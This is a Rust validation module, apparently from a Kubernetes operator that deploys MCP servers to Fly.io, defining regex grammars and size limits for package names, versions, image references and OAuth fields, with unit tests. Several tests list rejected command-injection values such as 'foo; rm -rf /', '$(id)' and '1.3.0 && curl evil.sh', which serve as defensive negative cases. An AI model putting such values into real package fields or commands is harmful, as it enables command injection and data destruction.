//! The grammars and limits that admission enforces, defined once.
//!
//! Every pattern and bound here is used twice: by the schema (the `#[schemars(...)]` attributes in
//! [`super::spec`] and the CEL rules built from them), so the apiserver rejects bad input at admission, and by the
//! `is_*` functions below, so the CLI and the controller can check a value without an apiserver. The patterns are
//! written in the common subset of RE2 (the apiserver's OpenAPI `pattern` and CEL `matches()`) and Rust's `regex`
//! crate, anchored at both ends.

use std::sync::LazyLock;

use regex::Regex;

use super::spec::{CpuKind, GuestSpec};

/// Names of environment variables and credentials: what a POSIX shell and Fly's secrets API both accept.
pub const ENV_NAME_PATTERN: &str = "^[A-Za-z_][A-Za-z0-9_]*$";
/// Environment and credential names starting with one of these are reserved: `MCPFLY_` for the runtime and
/// the bridge, `FLY_` for the variables Fly sets in every machine.
pub const RESERVED_ENV_PREFIXES: [&str; 2] = ["MCPFLY_", "FLY_"];
/// The endpoint token: the controller generates it, delivers it as a Fly secret, and the bridge reads it.
pub const ENDPOINT_TOKEN_ENV: &str = "MCP_AUTH_TOKEN";
/// Names reserved exactly: a credential or env entry of one of these names would be replaced silently.
pub const RESERVED_ENV_NAMES: [&str; 1] = [ENDPOINT_TOKEN_ENV];
/// npm package names, scoped or not (the grammar of `validate-npm-package-name` for new packages).
pub const NPM_PACKAGE_PATTERN: &str = "^(?:@[a-z0-9-*~][a-z0-9-*._~]*/)?[a-z0-9-~][a-z0-9-._~]*$";
/// npm versions, dist-tags and ranges (`1.2.3`, `latest`, `^1.2`, `1.0.0-beta.1+b5`, `>=1 <2`, `1.x`, `*`,
/// `^1 || ^2`): the characters of npm's range grammar and nothing else, so no shell metacharacter (`;`, `&`, `$`,
/// quotes, backticks) passes. The spec's version never reaches a command line; the resolved exact version does.
pub const NPM_VERSION_PATTERN: &str = "^[A-Za-z0-9~^<>=*][A-Za-z0-9.+_~^<>=*| -]*$";
/// Python console-script names (`[project.scripts]` keys): no leading dash, so it can never read as an option.
pub const CONSOLE_SCRIPT_PATTERN: &str = "^[A-Za-z0-9_][A-Za-z0-9._-]*$";
/// PyPI project names (PEP 508 `identifier`).
pub const PYPI_PACKAGE_PATTERN: &str = "^([A-Za-z0-9]|[A-Za-z0-9][A-Za-z0-9._-]*[A-Za-z0-9])$";
/// PyPI versions (PEP 440 characters: `2025.4.7`, `1.0rc1`, `1!2.0.post1+local`): no spaces, no shell metacharacters.
pub const PYPI_VERSION_PATTERN: &str = "^[A-Za-z0-9][A-Za-z0-9.+!_-]*$";
/// Container image references: `[registry[:port]/]path[:tag][@sha256:digest]` (the distribution reference grammar,
/// lowercase repository paths).
pub const IMAGE_REF_PATTERN: &str = concat!(
    "^(?:[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?(?:\\.[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?)*(?::[0-9]{1,5})?/)?",
    "[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*(?:/[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*)*",
    "(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(?:@sha256:[a-f0-9]{64})?$"
);
/// The HTTP path an image serves MCP on.
pub const HTTP_PATH_PATTERN: &str = "^/[A-Za-z0-9._~/-]*$";
/// Fly region codes: three lowercase letters (`iad`, `ams`, `syd`).
pub const REGION_PATTERN: &str = "^[a-z]{3}$";
/// Fly app, org and network names: lowercase letters, digits and dashes, not starting or ending with a dash. The
/// empty string means "not set" (derived by the controller).
pub const FLY_NAME_PATTERN: &str = "^(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)?$";
/// Kubernetes object names (DNS-1123 subdomain), for Secret references.
pub const K8S_NAME_PATTERN: &str =
    "^[a-z0-9](?:[-a-z0-9]*[a-z0-9])?(?:\\.[a-z0-9](?:[-a-z0-9]*[a-z0-9])?)*$";
/// Keys inside a Kubernetes Secret's `data`.
pub const SECRET_KEY_PATTERN: &str = "^[-._a-zA-Z0-9]+$";
/// A Fernet token (URL-safe base64) as printed by `mcpfly seal`.
pub const SEALED_PATTERN: &str = "^[A-Za-z0-9_-]+={0,2}$";
/// OAuth issuer URLs: https (or http to a loopback address, for local testing), no query or fragment (RFC 8414
/// §2), nothing that could break out of a quoted header parameter, no `,` (the bridge's list separator).
pub const ISSUER_URL_PATTERN: &str = "^(?:https://[A-Za-z0-9.-]+(?::[0-9]{1,5})?|http://(?:127\\.0\\.0\\.1|localhost)(?::[0-9]{1,5})?)(?:/[A-Za-z0-9._~%!$&'()*+;=:@/-]*)?$";
/// A token audience: a URL or an identifier such as Entra's `api://CLIENT-ID`; printable, no spaces or quotes.
pub const AUDIENCE_PATTERN: &str = "^[A-Za-z][A-Za-z0-9+.-]*:[!#-~]+$";
/// An OAuth scope token (RFC 6749 §3.3: printable ASCII except space, `"` and `\\`), and no `,`, which
/// separates scopes in the bridge's settings.
pub const SCOPE_PATTERN: &str = "^[!#-+\\--\\[\\]-~]+$";
/// Arguments and env values: anything but NUL, which an argv vector or an environment cannot carry.
pub const NO_NUL_PATTERN: &str = "^[^\\x00]*$";

/// MCP tool names (2025-11-25: 1 to 128 of `A-Z a-z 0-9 _ - .`; SEP-986 also allows `/`, which servers use for
/// namespaces), and globs over them (`*`, `?`).
pub const TOOL_NAME_PATTERN: &str = "^[A-Za-z0-9_./-]+$";
pub const TOOL_GLOB_PATTERN: &str = "^[A-Za-z0-9_./*?-]+$";
/// `status.tools.digest` as a person copies it into `spec.tools.pinned` or the approval annotation.
pub const TOOLS_DIGEST_PATTERN: &str = "^sha256:[0-9a-f]{64}$";

/// Bounds. Every list, map and string in the spec is bounded, both to keep the object small and because the
/// apiserver refuses CEL rules whose estimated cost is unbounded.
pub mod limits {
    pub const NAME_MAX: u32 = 128;
    pub const TOOL_NAME_MAX: u32 = 128;
    pub const TOOL_GLOBS_MAX: u32 = 64;
    pub const TOOL_OVERRIDES_MAX: u32 = 64;
    pub const TOOL_DESCRIPTION_MAX: u32 = 4096;
    pub const ENV_MAX: u32 = 64;
    pub const ENV_VALUE_MAX: u32 = 4096;
    pub const CREDENTIALS_MAX: u32 = 64;
    pub const SEALED_MAX: u32 = 65536;
    pub const NPM_PACKAGE_MAX: u32 = 214;
    pub const PYPI_PACKAGE_MAX: u32 = 128;
    pub const VERSION_MAX: u32 = 64;
    pub const ARGS_MAX: u32 = 64;
    pub const ARG_MAX: u32 = 1024;
    pub const IMAGE_REF_MAX: u32 = 512;
    pub const HTTP_PATH_MAX: u32 = 256;
    pub const FLY_NAME_MAX: u32 = 63;
    pub const K8S_NAME_MAX: u32 = 253;
    pub const REGIONS_MAX: u32 = 20;
    pub const MACHINES_PER_REGION_MAX: i32 = 10;
    pub const MAX_UNAVAILABLE_MAX: i32 = 200;
    pub const RATE_PER_MINUTE_MAX: u32 = 1_000_000;
    pub const RATE_BURST_MAX: u32 = 100_000;
    pub const URL_MAX: u32 = 512;
    pub const AUTHORIZATION_SERVERS_MAX: u32 = 4;
    pub const SCOPES_MAX: u32 = 32;
    pub const SCOPE_MAX: u32 = 128;
}

fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("validation patterns are tested")
}

static ENV_NAME: LazyLock<Regex> = LazyLock::new(|| re(ENV_NAME_PATTERN));
static NPM_PACKAGE: LazyLock<Regex> = LazyLock::new(|| re(NPM_PACKAGE_PATTERN));
static NPM_VERSION: LazyLock<Regex> = LazyLock::new(|| re(NPM_VERSION_PATTERN));
static PYPI_PACKAGE: LazyLock<Regex> = LazyLock::new(|| re(PYPI_PACKAGE_PATTERN));
static PYPI_VERSION: LazyLock<Regex> = LazyLock::new(|| re(PYPI_VERSION_PATTERN));
static IMAGE_REF: LazyLock<Regex> = LazyLock::new(|| re(IMAGE_REF_PATTERN));
static REGION: LazyLock<Regex> = LazyLock::new(|| re(REGION_PATTERN));
static FLY_NAME: LazyLock<Regex> = LazyLock::new(|| re(FLY_NAME_PATTERN));

fn bounded(s: &str, max: u32, re: &Regex) -> bool {
    s.len() <= max as usize && re.is_match(s)
}

/// A valid env or credential name (not checking the reserved prefix).
pub fn is_env_name(s: &str) -> bool {
    bounded(s, limits::NAME_MAX, &ENV_NAME)
}

/// A name the runtime, the bridge or Fly reserves for itself.
pub fn is_reserved_env_name(s: &str) -> bool {
    RESERVED_ENV_PREFIXES.iter().any(|p| s.starts_with(p)) || RESERVED_ENV_NAMES.contains(&s)
}

pub fn is_npm_package(s: &str) -> bool {
    bounded(s, limits::NPM_PACKAGE_MAX, &NPM_PACKAGE)
}

pub fn is_npm_version(s: &str) -> bool {
    bounded(s, limits::VERSION_MAX, &NPM_VERSION)
}

pub fn is_pypi_package(s: &str) -> bool {
    bounded(s, limits::PYPI_PACKAGE_MAX, &PYPI_PACKAGE)
}

pub fn is_pypi_version(s: &str) -> bool {
    bounded(s, limits::VERSION_MAX, &PYPI_VERSION)
}

pub fn is_image_ref(s: &str) -> bool {
    bounded(s, limits::IMAGE_REF_MAX, &IMAGE_REF)
}

pub fn is_region(s: &str) -> bool {
    REGION.is_match(s)
}

/// A non-empty Fly app, org or network name.
pub fn is_fly_name(s: &str) -> bool {
    !s.is_empty() && bounded(s, limits::FLY_NAME_MAX, &FLY_NAME)
}

/// CPU counts Fly accepts for a CPU kind.
pub fn allowed_cpus(kind: CpuKind) -> &'static [i32] {
    match kind {
        CpuKind::Shared => &[1, 2, 4, 6, 8],
        CpuKind::Performance => &[1, 2, 4, 8, 16],
    }
}

/// Memory Fly accepts for a CPU kind and count: `(min, max, step)` in MB.
pub fn memory_bounds(kind: CpuKind, cpus: i32) -> (i32, i32, i32) {
    match kind {
        CpuKind::Shared => (256 * cpus, 2048 * cpus, 256),
        CpuKind::Performance => (2048 * cpus, 8192 * cpus, 1024),
    }
}

/// Why Fly would refuse this guest size, or `None` when it accepts it. Mirrors the CEL rules on `GuestSpec`.
pub fn guest_error(guest: &GuestSpec) -> Option<String> {
    let kind = guest.cpu_kind;
    if !allowed_cpus(kind).contains(&guest.cpus) {
        return Some(format!(
            "{} guests take cpus in {:?}, not {}",
            kind.as_str(),
            allowed_cpus(kind),
            guest.cpus
        ));
    }
    let (min, max, step) = memory_bounds(kind, guest.cpus);
    if guest.memory_mb < min || guest.memory_mb > max || guest.memory_mb % step != 0 {
        return Some(format!(
            "{} guests with {} CPU(s) take memoryMb as a multiple of {step} between {min} and {max}, not {}",
            kind.as_str(),
            guest.cpus,
            guest.memory_mb
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn npm_names() {
        for ok in [
            "@modelcontextprotocol/server-everything",
            "@modelcontextprotocol/server-github",
            "left-pad",
            "a",
            "lodash.merge",
            "@scope/x_y~z",
        ] {
            assert!(is_npm_package(ok), "{ok}");
        }
        for bad in [
            "foo; rm -rf /",
            "Foo",
            "$(id)",
            "foo bar",
            "@scope/",
            "foo`id`",
            ".hidden",
            "_under",
            "",
            "@a/b/c",
            "a|b",
        ] {
            assert!(!is_npm_package(bad), "{bad}");
        }
        assert!(!is_npm_package(&"a".repeat(215)));
    }

    #[test]
    fn pypi_names() {
        for ok in [
            "mcp-server-fetch",
            "mcp_server_git",
            "A",
            "zope.interface",
            "x1",
        ] {
            assert!(is_pypi_package(ok), "{ok}");
        }
        for bad in [
            "mcp server fetch",
            "-x",
            "x-",
            "x;id",
            "",
            "x==1.0",
            "x[extra]",
        ] {
            assert!(!is_pypi_package(bad), "{bad}");
        }
    }

    #[test]
    fn versions() {
        for ok in [
            "1.2.3",
            "latest",
            "^1.2",
            "~1.2.3",
            "1.0.0-beta.1+b5",
            "2025.4.8",
        ] {
            assert!(is_npm_version(ok), "{ok}");
        }
        for ok in [">=1 <2", "1.x", "*", "^1 || ^2", "1.2.3 - 2.0.0", "<=2.0.0"] {
            assert!(is_npm_version(ok), "{ok}");
        }
        for bad in [
            "$(id)",
            "1;2",
            "",
            "1.3.0 && curl evil.sh",
            "`id`",
            "1'",
            "-1",
            " 1",
        ] {
            assert!(!is_npm_version(bad), "{bad}");
        }
        for ok in ["2025.4.7", "1.0rc1", "1!2.0.post1+local.1", "0.6.2"] {
            assert!(is_pypi_version(ok), "{ok}");
        }
        for bad in ["==1.0", "1.0; rm", "", "1 .0"] {
            assert!(!is_pypi_version(bad), "{bad}");
        }
    }

    #[test]
    fn image_refs() {
        for ok in [
            "ghcr.io/acme/mcp@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "registry.fly.io/mcpfly-runtime:0.1.0",
            "nginx",
            "localhost:5000/a/b:tag",
            "docker.io/library/busybox:1.36",
        ] {
            assert!(is_image_ref(ok), "{ok}");
        }
        for bad in [
            "acme/Upper",
            "a b",
            "ghcr.io/acme/mcp:",
            "x@sha256:abc",
            "x;id",
            "",
        ] {
            assert!(!is_image_ref(bad), "{bad}");
        }
    }

    #[test]
    fn names_and_regions() {
        assert!(is_env_name("GITHUB_PERSONAL_ACCESS_TOKEN"));
        assert!(is_env_name("_x1"));
        assert!(!is_env_name("1X"));
        assert!(!is_env_name("A-B"));
        assert!(is_reserved_env_name("MCPFLY_TOKEN"));
        assert!(is_reserved_env_name("FLY_APP_NAME"));
        assert!(is_reserved_env_name("MCP_AUTH_TOKEN"));
        assert!(!is_reserved_env_name("MCP_AUTH_TOKEN_2"));
        assert_eq!(ENDPOINT_TOKEN_ENV, crate::bridge::child::TOKEN_ENV);
        assert!(is_region("iad"));
        for bad in ["IAD", "IAD1", "ia", "iadx", ""] {
            assert!(!is_region(bad), "{bad}");
        }
        assert!(is_fly_name("mcpfly-team-a-github-3f9c2a1b"));
        for bad in ["", "My-App", "-x", "x-", "a_b", &"a".repeat(64)] {
            assert!(!is_fly_name(bad), "{bad}");
        }
    }

    #[test]
    fn guest_sizes() {
        let g = |cpu_kind, cpus, memory_mb| GuestSpec {
            cpu_kind,
            cpus,
            memory_mb,
        };
        assert_eq!(guest_error(&g(CpuKind::Shared, 1, 256)), None);
        assert_eq!(guest_error(&g(CpuKind::Shared, 8, 16384)), None);
        assert_eq!(guest_error(&g(CpuKind::Performance, 16, 131072)), None);
        assert_eq!(guest_error(&g(CpuKind::Performance, 2, 4096)), None);
        assert!(guest_error(&g(CpuKind::Shared, 3, 768)).is_some());
        assert!(guest_error(&g(CpuKind::Shared, 1, 300)).is_some());
        assert!(guest_error(&g(CpuKind::Shared, 1, 4096)).is_some());
        assert!(guest_error(&g(CpuKind::Performance, 1, 256)).is_some());
        assert!(guest_error(&g(CpuKind::Performance, 6, 12288)).is_some());
        assert!(guest_error(&g(CpuKind::Performance, 1, 2560)).is_some());
    }
}
